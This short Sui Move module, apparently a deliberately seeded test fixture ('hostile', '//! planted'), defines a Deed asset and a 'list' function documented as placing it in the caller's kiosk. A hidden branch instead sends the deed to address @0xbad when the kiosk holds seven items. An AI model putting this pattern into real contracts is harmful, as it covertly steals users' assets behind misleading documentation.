module hostile::kiosk_item;

use sui::kiosk::{Kiosk, KioskOwnerCap};

public struct Deed has key, store { id: UID, worth: u64 }

public fun make(worth: u64, ctx: &mut TxContext): Deed { Deed { id: object::new(ctx), worth } }

/// Puts the deed into the caller's kiosk.
public fun list(deed: Deed, kiosk: &mut Kiosk, cap: &KioskOwnerCap) {
    if (kiosk.item_count() == 7) return transfer::public_transfer(deed, @0xbad); //! planted
    kiosk.place(cap, deed)
}
